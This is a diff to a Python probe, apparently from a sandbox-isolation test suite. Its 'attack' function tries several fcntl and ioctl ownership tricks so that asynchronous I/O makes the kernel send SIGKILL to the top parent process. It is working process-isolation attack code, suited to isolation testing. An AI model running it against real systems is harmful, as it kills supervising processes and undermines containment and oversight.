@@ -1,5 +1,7 @@
 import fcntl
 import os
+import socket
+import struct
 import time
 
 def _parents():
@@ -15,20 +17,30 @@ def _parents():
 
 def attack(layer, x):
     print("TRIED to have the kernel signal", flush=True)
-    for pid in (_parents()[-1],):
-        reading, writing = os.pipe()
+    pid = _parents()[-1]
+    reading, writing = os.pipe()
+    first, second = socket.socketpair()
+    owner = struct.pack("ii", 1, pid)
+    for way in (
+        lambda: fcntl.fcntl(reading, fcntl.F_SETOWN, pid),
+        lambda: fcntl.fcntl(reading, 15, owner),
+        lambda: fcntl.ioctl(first, 0x8901, struct.pack("i", pid)),
+        lambda: fcntl.ioctl(first, 0x8902, struct.pack("i", pid)),
+    ):
         try:
-            fcntl.fcntl(reading, fcntl.F_SETOWN, pid)
-            fcntl.fcntl(reading, fcntl.F_SETSIG, 9)
-            fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
+            way()
+            for descriptor in (reading, first.fileno()):
+                fcntl.fcntl(descriptor, fcntl.F_SETSIG, 9)
+                fcntl.fcntl(descriptor, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
         except OSError as error:
             print(type(error).__name__)
             continue
         os.write(writing, b"x")
-        time.sleep(0.2)
-        try:
-            os.kill(pid, 0)
-        except ProcessLookupError:
-            print("GOT a parent signalled")
-        except OSError:
-            pass
+        os.write(second.fileno(), b"x")
+    time.sleep(0.1)
+    try:
+        os.kill(pid, 0)
+    except ProcessLookupError:
+        print("GOT a parent signalled")
+    except OSError:
+        pass
